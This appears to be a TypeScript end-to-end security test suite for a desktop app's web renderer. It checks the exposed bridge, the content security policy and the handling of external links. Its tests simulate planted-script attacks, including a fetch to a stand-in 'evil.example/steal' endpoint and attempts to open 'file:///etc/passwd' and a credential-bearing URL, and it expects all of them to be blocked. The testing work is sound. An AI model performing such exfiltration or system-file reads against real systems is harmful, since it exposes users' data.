import { expect, test } from '../fixtures/desktop-test.ts'
import { setUp } from '../screens/entrance.ts'

test('a page sees the bridge and nothing else of the program', async ({ desktop }) => {
  const seen = await desktop.page.evaluate(() => {
    const bridge: unknown = Reflect.get(window, 'kuraban')
    return {
      bridge: Object.entries(bridge ?? {}).map(([name, value]) => [name, typeof value]),
      isFrozen: Object.isFrozen(bridge),
      node: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer'].filter((name) => name in window),
    }
  })
  expect(seen).toEqual({
    bridge: [
      ['host', 'string'],
      ['requestPort', 'function'],
    ],
    isFrozen: true,
    node: [],
  })
})

test('the content policy stops what a planted script would do', async ({ desktop, watch }) => {
  watch.expect(/content policy|Content Security Policy|evil\.example/)
  const violated = await desktop.page.evaluate(async () => {
    const directives = new Set<string>()
    addEventListener('securitypolicyviolation', (event) => directives.add(event.effectiveDirective))
    const script = Object.assign(document.createElement('script'), { textContent: 'window.planted = true' })
    const image = Object.assign(document.createElement('img'), { src: 'https://evil.example/pixel.png' })
    const frame = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })
    document.body.append(script, image, frame)
    await fetch('https://evil.example/steal').catch(() => undefined)
    await new Promise((resolve) => setTimeout(resolve, 300))
    return { directives: [...directives].toSorted(), planted: 'planted' in window }
  })
  expect(violated).toEqual({ directives: ['connect-src', 'frame-src', 'img-src', 'script-src-elem'], planted: false })
})

test('a page stays where it is, and an outside link is opened only after a question', async ({ desktop, watch }) => {
  watch.expect(/request to a stranger: https:\/\/(restic|kuraban)/)
  const { page, double } = desktop
  await setUp(page)
  const address = page.url()
  const follow = (href: string) =>
    page.evaluate((target) => {
      const link = Object.assign(document.createElement('a'), { href: target, target: '_blank', rel: 'noopener' })
      document.body.append(link)
      link.click()
    }, href)

  await page.evaluate(() => location.assign('https://kuraban.app.test.evil.example/'))
  await follow('https://restic.net/refused')
  await expect.poll(() => questionsAbout('restic.net/refused')).toBe(1)
  await double.control('answerNextQuestion', 0)
  await follow('https://restic.net/allowed')
  await expect.poll(opened).toEqual(['https://restic.net/allowed'])
  await page.evaluate(() => window.open('file:///etc/passwd'))
  await page.evaluate(() => window.open('https://user:secret@restic.net/'))
  expect(await opened()).toEqual(['https://restic.net/allowed'])
  expect(page.url()).toBe(address)
  expect(
    page
      .context()
      .pages()
      .filter((one) => one.url().startsWith('https://restic')),
  ).toEqual([])

  async function opened() {
    return (await double.control('recorded')).flatMap((entry) => (entry.kind === 'open-external' ? [entry.url] : []))
  }
  async function questionsAbout(text: string) {
    const entries = await double.control('recorded')
    return entries.filter((entry) => entry.kind === 'message-box' && entry.detail.includes(text)).length
  }
})
